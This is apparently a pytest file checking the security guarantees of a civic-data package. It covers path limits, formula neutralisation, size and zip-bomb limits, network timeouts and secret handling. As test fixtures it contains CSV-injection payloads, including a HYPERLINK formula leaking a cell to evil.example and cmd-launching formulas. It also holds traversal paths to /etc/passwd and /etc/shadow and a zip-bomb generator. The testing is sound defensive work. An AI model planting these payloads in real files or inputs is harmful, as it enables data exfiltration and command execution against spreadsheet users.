"""The promise of the README's "Security and reliability" section, clause by clause: paths stay under their root,
nothing a provider wrote becomes a live formula, sizes and depths are bounded, every network call has a timeout,
bounded retries and a message, and API keys are never written down. Each test fails without the clause it
names (the README lists them)."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import socket
import subprocess
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from citybank import opendata, publish, safety
from citybank.bank import build_bank
from citybank.cli import main
from citybank.errors import UserError
from citybank.ingest import ingest_dataset, read_file
from citybank.ingest.common import SourceFileError
from citybank.ingest.fetch import Client, Request
from citybank.opendata import ckan
from citybank.params import ParamsError, load_params
from citybank.params.bdl_api import load_bdl_api
from citybank.paths import PATHS
from citybank.schema import QUARANTINE_COLUMNS
from ingest_fixtures import build_raw, write_sidecar
from test_bank import params_with_four

ROOT = Path(__file__).resolve().parents[1]
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
"""OWASP's CSV-injection starts (= + - @ tab CR), as a provider's cell or a resident's answer might hold them."""


def _problems(exc: ParamsError) -> dict[tuple[str, str], str]:
    return {(p.file, p.key): p.message for p in exc.problems}


# ---------------------------------------------------------------- paths


def test_check_params_refuses_absolute_paths_and_dotdot_with_file_and_key(params_copy, capsys):
    ds = params_copy / "datasets" / "pup-bezrobocie.yml"
    data = yaml.safe_load(ds.read_text(encoding="utf-8"))
    data["source"]["files"] = ["../../../../etc/passwd", "/etc/passwd", "pup/ok_{year}.csv", "..\\..\\win.ini"]
    ds.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    survey = params_copy / "survey.yml"
    s = yaml.safe_load(survey.read_text(encoding="utf-8"))
    s["files"][0]["path"] = "/etc/shadow"
    survey.write_text(yaml.safe_dump(s, allow_unicode=True), encoding="utf-8")
    nat = params_copy / "national.yml"
    n = yaml.safe_load(nat.read_text(encoding="utf-8"))
    n["folders"].append("/etc")
    nat.write_text(yaml.safe_dump(n, allow_unicode=True), encoding="utf-8")
    with pytest.raises(ParamsError) as err:
        load_params(params_copy)
    got = _problems(err.value)
    f = "params/datasets/pup-bezrobocie.yml"
    assert "goes up with '..'" in got[(f, "source.files[0]")]
    assert "is an absolute path" in got[(f, "source.files[1]")]
    assert (f, "source.files[2]") not in got
    assert "goes up with '..'" in got[(f, "source.files[3]")]
    assert "is an absolute path" in got[("params/survey.yml", "files[0].path")]
    assert "outside data/raw and ../shared" in got[("params/national.yml", f"folders[{len(n['folders']) - 1}]")]
    # the command says the same, naming file and key, and fails
    assert main(["check-params", "--params", str(params_copy)]) == 1
    err_text = capsys.readouterr().err
    assert "params/datasets/pup-bezrobocie.yml: source.files[1]: '/etc/passwd' is an absolute path" in err_text


def test_check_params_refuses_a_symbolic_link_that_leaves_data_raw(params_copy):
    raw = params_copy.parent / "data" / "raw" / "pup"
    raw.mkdir(parents=True)
    (raw / "bezrobocie.csv").symlink_to("/etc/passwd")
    (raw / "inside.csv").write_text("a;b\n", encoding="utf-8")
    (raw / "fine.csv").symlink_to(raw / "inside.csv")  # a link that stays inside is fine
    ds = params_copy / "datasets" / "pup-bezrobocie.yml"
    data = yaml.safe_load(ds.read_text(encoding="utf-8"))
    data["source"]["files"] = ["pup/bezrobocie.csv", "pup/fine.csv"]
    ds.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    with pytest.raises(ParamsError) as err:
        load_params(params_copy)
    got = _problems(err.value)
    assert "symbolic link that leads outside" in got[("params/datasets/pup-bezrobocie.yml", "source.files[0]")]
    assert ("params/datasets/pup-bezrobocie.yml", "source.files[1]") not in got


@pytest.fixture(scope="module")
def reg4(tmp_path_factory, root):
    wb = tmp_path_factory.mktemp("four")
    shutil.copytree(root / "notebooks", wb / "notebooks")
    return load_params(params_with_four(root, wb / "params"))


def test_readers_refuse_outside_paths_at_open_time(tmp_path, reg4, monkeypatch):
    """Defence in depth: a descriptor that never went through check-params still cannot read /etc/passwd."""
    raw = build_raw(tmp_path / "raw")
    (raw / "pup" / "link.csv").symlink_to("/etc/passwd")
    ds = reg4.datasets["um-ludnosc-dzielnice"]
    opened: list[str] = []
    monkeypatch.setattr("citybank.ingest.sha256_file", lambda p: opened.append(str(p)) or "x")
    for files, says in [
        (["../../../../../../etc/passwd"], "goes up with '..'"),
        (["/etc/passwd"], "is an absolute path"),
        (["pup/link.csv"], "leads outside"),
    ]:
        bad = ds.model_copy(update={"source": ds.source.model_copy(update={"files": files})})
        got = ingest_dataset(bad, reg4, raw)
        assert got.error and says in got.error and not got.files
    assert opened == []


def test_survey_reader_refuses_an_outside_path(survey, tmp_path):
    from citybank.survey.inputs import load_survey_data

    bad = survey.model_copy(update={"files": [survey.files[0].model_copy(update={"path": "../../etc/passwd"})]})
    with pytest.raises(safety.UnsafeInputError, match="goes up with '..'"):
        load_survey_data(bad, tmp_path)


# ---------------------------------------------------------------- cells


def test_safe_cell_neutralises_every_formula_start_and_nothing_else():
    for text in ATTACKS:
        assert safety.safe_cell(text) == "'" + text.replace("\r", "\n")
        assert safety.read_back(safety.safe_cell(text)) == text.replace("\r", "\n")
    assert safety.safe_cell("a\rb\r\nc") == "a\nb\nc"  # a lone CR would split the CSV row
    for value in ("Śródmieście", "1 234,5", "'quoted", "a=b", -3, 2.5, None):
        assert safety.safe_cell(value) == value
    df = pd.DataFrame({"n": [-1, 2], "x": [-1.5, 2.0], "t": ["=1+1", "ok"], "=h": ["a", "b"]})
    out = safety.safe_frame(df)
    assert out["n"].tolist() == [-1, 2] and out["x"].tolist() == [-1.5, 2.0]  # numbers stay numbers
    assert out["t"].tolist() == ["'=1+1", "ok"] and list(out.columns) == ["n", "x", "t", "'=h"]
    assert df["t"].tolist() == ["=1+1", "ok"]  # the caller's frame is not changed
    clean = pd.DataFrame({"t": ["a", "b"]})
    assert safety.safe_frame(clean) is clean


def _zameldowani_with_attacks(raw: Path) -> None:
    """The district file of 2024 with two hostile rows: a formula as the value, a formula as the district."""
    path = raw / "um-ewidencja" / "zameldowani_2024.csv"
    text = path.read_bytes().decode("cp1250")
    text += f"2024;Centrum;{ATTACKS[0]}\r\n2024;{ATTACKS[3]};12\r\n"
    path.write_bytes(text.encode("cp1250", errors="replace"))
    write_sidecar(path)


@pytest.fixture(scope="module")
def hostile_bank(tmp_path_factory, reg4):
    tmp = tmp_path_factory.mktemp("hostile")
    raw = build_raw(tmp / "raw")
    _zameldowani_with_attacks(raw)
    result = build_bank(reg4, raw=raw, out=tmp / "wb", years=[2024])
    return tmp / "wb", result


def test_quarantine_csv_holds_no_live_formula(hostile_bank):
    root, result = hostile_bank
    q = result.quarantine
    assert ATTACKS[0] in set(q["value"]) and any(ATTACKS[3] in str(v) for v in q["value"])  # both quarantined
    text = (root / "data" / "quality" / "2024" / "quarantine.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(safety.FORMULA_START)]
    assert "'" + ATTACKS[0] in cells and {len(r) for r in rows} == {len(QUARANTINE_COLUMNS)}  # every row whole


def test_every_csv_writer_goes_through_safe_frame():
    """A new writer of CSV from a frame must neutralise its cells: every ``.to_csv(`` in the package is called on
    ``safe_frame(...)`` (the runner's timings.csv, written with the csv module from the workbench's own task ids,
    is the only other CSV)."""
    bare = []
    for path in sorted((ROOT / "lib" / "citybank").rglob("*.py")):
        for no, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if ".to_csv(" in line and "safe_frame(" not in line:
                bare.append(f"{path.relative_to(ROOT)}:{no}: {line.strip()}")
    assert bare == []


def test_published_xlsx_and_csv_store_text_never_formulas(tmp_path):
    df = pd.DataFrame({"territory_name": ATTACKS, "value": [1.5, -2.0, 3.0, 4.0, 5.0, 6.0]})
    xlsx = publish.write_xlsx(df, tmp_path / "t.xlsx", about=[("Tytuł", ATTACKS[0])], fields=[])
    ws = openpyxl.load_workbook(xlsx)[publish.DATA_SHEET]
    cells = [ws.cell(row=r, column=1) for r in range(2, len(ATTACKS) + 2)]
    assert [c.data_type for c in cells] == ["s"] * len(ATTACKS) and [c.value for c in cells] == ATTACKS
    assert [ws.cell(row=r, column=2).value for r in range(2, 4)] == [1.5, -2.0]
    written = publish.write_csv(df, tmp_path / "t.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(written)))[1:]
    assert [r[0] for r in rows] == ["'" + a.replace("\r", "\n") for a in ATTACKS] and rows[1][1] == "-2.0"


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (Debian: libreoffice-calc)")
def test_libreoffice_opens_the_quarantine_and_a_workbook_without_a_formula(hostile_bank, tmp_path):
    """LibreOffice converts the quarantine CSV (formulas evaluated, as on opening it) and a published workbook
    with planted cells; neither has a formula cell afterwards, and the planted text reads as text."""
    root, _ = hostile_bank
    src = tmp_path / "in"
    src.mkdir()
    shutil.copy(root / "data" / "quality" / "2024" / "quarantine.csv", src / "quarantine.csv")
    df = pd.DataFrame({"territory_name": ATTACKS, "value": range(len(ATTACKS))})
    publish.write_xlsx(df, src / "book.xlsx", about=[("x", "y")], fields=[])
    out, profile = tmp_path / "out", tmp_path / "profile"
    for name, filt in (("quarantine.csv", "xlsx:Calc MS Excel 2007 XML"), ("book.xlsx", "xlsx:Calc MS Excel 2007 XML")):
        args = [SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore"]
        if name.endswith(".csv"):  # comma, UTF-8 (76), "evaluate formulas" on: the way a careless open reads it
            args += ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"]
        proc = subprocess.run(
            [*args, "--convert-to", filt, "--outdir", str(out / name.split(".")[0]), str(src / name)],
            capture_output=True, text=True, timeout=180,
        )  # fmt: skip
        assert proc.returncode == 0, proc.stderr
    for book in (out / "quarantine" / "quarantine.xlsx", out / "book" / "book.xlsx"):
        wb = openpyxl.load_workbook(book)  # formulas as formulas (not their cached values)
        formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == [], f"{book.name}: formula cells {formulas}"
    texts = [c.value for row in openpyxl.load_workbook(out / "book" / "book.xlsx").active.iter_rows() for c in row]
    assert set(ATTACKS) <= set(texts)


# ---------------------------------------------------------------- sizes


def test_a_huge_provider_file_is_refused_unread(tmp_path, reg4, monkeypatch):
    """A 3 GB CSV (sparse: no disk is filled) is refused by its size before a byte of it is read."""
    raw = build_raw(tmp_path / "raw")
    big = raw / "um-ewidencja" / "zameldowani_2024.csv"
    with big.open("r+b") as fh:
        fh.truncate(3 * 1024**3)
    read: list[str] = []
    monkeypatch.setattr("citybank.ingest.sha256_file", lambda p: read.append(str(p)) or "x")
    got = ingest_dataset(reg4.datasets["um-ludnosc-dzielnice"], reg4, raw)
    assert got.error is not None
    assert re.search(r"is 3,072 MB, more than the limit of 256 MB: refused unread.*source\.max_mb", got.error)
    assert not any(p.endswith("zameldowani_2024.csv") for p in read)
    # the limit is the descriptor's: 1 MB refuses a 2 MB file, 4 MB lets it through to the reader
    with big.open("r+b") as fh:
        fh.truncate(2 * 1024**2)
    ds = reg4.datasets["um-ludnosc-dzielnice"]
    small = ds.model_copy(update={"source": ds.source.model_copy(update={"max_mb": 1.0})})
    assert "more than the limit of 1 MB" in (ingest_dataset(small, reg4, raw).error or "")
    roomy = ds.model_copy(update={"source": ds.source.model_copy(update={"max_mb": 4.0})})
    assert "limit" not in (ingest_dataset(roomy, reg4, raw).error or "")


def _zip_bomb(path: Path, unpacked_mb: int) -> Path:
    """An XLSX-looking container whose sheet is ``unpacked_mb`` MB of zeros (compressed ~1000:1)."""
    zeros = b"0" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w") as fh:
            for _ in range(unpacked_mb):
                fh.write(zeros)
    return path


def test_an_xlsx_zip_bomb_is_refused_before_unpacking(tmp_path, reg4):
    bomb = _zip_bomb(tmp_path / "bezrobocie.xlsx", 48)
    assert bomb.stat().st_size < 1024 * 1024  # 48 MB of sheet in under 1 MB of file
    with pytest.raises(SourceFileError, match=r"unpacks \d[\d,]* times larger than stored .*zip bomb"):
        read_file(bomb, reg4.datasets["pup-bezrobocie"], reg4)
    with pytest.raises(safety.UnsafeInputError, match="would unpack to 48 MB"):
        safety.check_zip(bomb.read_bytes(), where="x", max_unpacked_mb=10)


def test_deeply_nested_json_is_refused_with_a_message(tmp_path, reg4):
    deep = "[" * 100_000 + "]" * 100_000
    with pytest.raises(RecursionError):
        json.loads(deep)  # what would happen without the check
    path = tmp_path / "api.json"
    path.write_text(deep, encoding="utf-8")
    with pytest.raises(SourceFileError, match="nested 100000 levels deep"):
        read_file(path, reg4.datasets["gus-wynagrodzenia"], reg4)
    assert safety.json_depth('{"a": "[[[[", "b": [[1]]}') == 3  # brackets inside strings do not count


# ---------------------------------------------------------------- network


class Hostile:
    """A stand-in HTTP server on 127.0.0.1 that misbehaves on purpose: ``mode`` is "hang" (answers nothing for
    longer than any client waits), "drop" (closes the connection unanswered), "500", "deep" (JSON 10,000 levels
    deep) or "ok" (a small JSON). Every request and its headers are recorded."""

    def __init__(self) -> None:
        self.mode = "ok"
        self.log: list[dict[str, str]] = []
        self.release = threading.Event()
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def _answer(self) -> None:
                hostile.log.append({k.lower(): v for k, v in self.headers.items()})
                if self.command == "POST":
                    self.rfile.read(int(self.headers.get("Content-Length", 0)))
                if hostile.mode == "hang":
                    hostile.release.wait(10)
                    return
                if hostile.mode == "drop":
                    self.connection.shutdown(socket.SHUT_RDWR)
                    return
                status, body = {
                    "500": (500, b"Internal Server Error"),
                    "deep": (200, b"[" * 10_000 + b"]" * 10_000),
                    "ok": (200, b'{"success": true, "result": {}, "results": []}'),
                }[hostile.mode]
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    def __enter__(self) -> Hostile:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.release.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture()
def hostile():
    with Hostile() as h:
        yield h


SECRET = "sekret-KLUCZ-7f3a9c"


def _bdl(tmp_path, hostile, sleeps, **kw) -> Client:
    cfg = load_bdl_api(PATHS.params).model_copy(update={"timeout_seconds": 0.5, "retries": 2})
    return Client(cfg, tmp_path / "cache", base_url=hostile.url, sleep=sleeps.append, clock=lambda: 0.0, **kw)


@pytest.mark.parametrize(
    ("mode", "says"),
    [
        ("hang", r"could not be reached at .* after 3 attempts: timed out"),
        ("drop", r"could not be reached at .* after 3 attempts"),
        ("500", r"answered HTTP 500 to .* after 3 attempts: Internal Server Error — try again later"),
    ],
)
def test_bdl_api_hang_drop_and_500_end_in_bounded_retries_and_a_message(tmp_path, hostile, mode, says):
    hostile.mode = mode
    sleeps: list[float] = []
    with pytest.raises(UserError, match=says) as err:
        _bdl(tmp_path, hostile, sleeps, client_id=SECRET).fetch(Request("data/by-unit/023000000000", ()))
    assert len(hostile.log) == 3 and sleeps == [1.0, 2.0]  # 1 + 2 retries, backed off
    assert hostile.log[0]["x-clientid"] == SECRET and SECRET not in str(err.value)


def test_bdl_api_deep_json_is_a_message(tmp_path, hostile):
    hostile.mode = "deep"
    with pytest.raises(UserError, match="nested 10000 levels deep"):
        _bdl(tmp_path, hostile, []).fetch(Request("data/by-unit/023000000000", ()))


def test_api_keys_are_never_written_to_caches_sidecars_or_logs(tmp_path, hostile, capfd, caplog):
    hostile.mode = "ok"
    client = _bdl(tmp_path, hostile, [], client_id=SECRET)
    client.fetch(Request("data/by-unit/023000000000", (("year", "2024"),)))
    assert hostile.log[-1]["x-clientid"] == SECRET  # it was sent…
    calls = opendata.push_ckan([{"name": "x", "resources": []}], hostile.url, SECRET, timeout=0.5, log=print)
    assert [c.status for c in calls] == ["sent"]
    hostile.mode = "deep"
    with pytest.raises(UserError) as err:
        ckan._ckan_post(hostile.url, "package_show", {"id": "x"}, SECRET, 0.5, sleep=lambda s: None)
    hostile.mode = "500"
    with pytest.raises(UserError) as err500:
        ckan._ckan_post(hostile.url, "package_show", {"id": "x"}, SECRET, 0.5, sleep=lambda s: None)
    assert hostile.log[-1]["authorization"] == SECRET
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert any(p.name.endswith(".source.yml") for p in written) and written
    out, errs = capfd.readouterr()
    for text in [*(p.read_text(encoding="utf-8", errors="replace") for p in written), out, errs, caplog.text,
                 str(err.value), str(err500.value)]:  # fmt: skip
        assert SECRET not in text  # …and never written down


@pytest.mark.parametrize(
    ("mode", "says"),
    [
        ("hang", r"cannot reach CKAN at .*timed out.*after 3 attempts, each bounded by 0.5 s"),
        ("drop", r"cannot reach CKAN at .*after 3 attempts"),
        ("500", r"CKAN at .* answered HTTP 500 to package_show; try again later \(after 3 attempts"),
    ],
)
def test_ckan_hang_drop_and_500_end_in_bounded_retries_and_a_message(hostile, mode, says):
    hostile.mode = mode
    sleeps: list[float] = []
    with pytest.raises(UserError, match=says):
        ckan._ckan_post(hostile.url, "package_show", {"id": "x"}, SECRET, 0.5, sleep=sleeps.append)
    assert len(hostile.log) == 3 and sleeps == [1.0, 2.0]


def test_network_clients_have_a_timeout_on_every_call():
    """Every ``urlopen`` in the package passes a timeout (a call without one can wait for ever)."""
    calls = []
    for path in sorted((ROOT / "lib" / "citybank").rglob("*.py")):
        for no, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if "urlopen(" in line and "timeout=" not in line:
                calls.append(f"{path.relative_to(ROOT)}:{no}")
    assert calls == []
